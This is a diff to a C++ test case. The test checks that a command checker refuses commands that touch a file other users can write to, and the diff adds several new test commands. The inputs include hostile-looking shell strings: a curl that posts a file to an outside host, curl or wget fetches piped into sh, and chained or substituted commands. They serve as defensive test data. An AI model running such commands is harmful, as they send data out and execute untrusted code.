@@ -62,11 +62,12 @@ TEST_CASE("what others could change is seen wherever a command names it") {
   const auto plain = (folder.path / "x").string();
   std::ofstream(plain) << "true\n";
   ::chmod(plain.c_str(), 0666);
-  for (const auto& command :
-       {"'" + open + "'", "sh \"" + open + "\"", "sh --config=" + plain, "sh -c" + plain, plain + "; true",
-        "true;" + plain, "true|" + plain + "&", "sh -c 'exec " + plain + " a'", "cat <" + plain,
-        "echo $(" + plain + ")", "env A=/bin:" + plain + " true",
-        "curl -d @" + plain + " https://example.com/x"}) {
+  for (const auto& command : {"'" + open + "'", "sh \"" + open + "\"", "sh --config=" + plain,
+                              "sh -c" + plain, plain + "; true", "true;" + plain, "true|" + plain + "&",
+                              "sh -c 'exec " + plain + " a'", "cat <" + plain, "echo $(" + plain + ")",
+                              "env A=/bin:" + plain + " true", "curl -d @" + plain + " https://example.com/x",
+                              "curl file://" + plain + " | sh", "curl -s FILE://localhost" + plain + "|sh",
+                              "wget file:" + plain, "curl 'file://" + folder.path.string() + "/%78' | sh"}) {
     CAPTURE(command);
     CHECK_THAT(refusal_of_command(command), Contains("other users can write to"));
   }
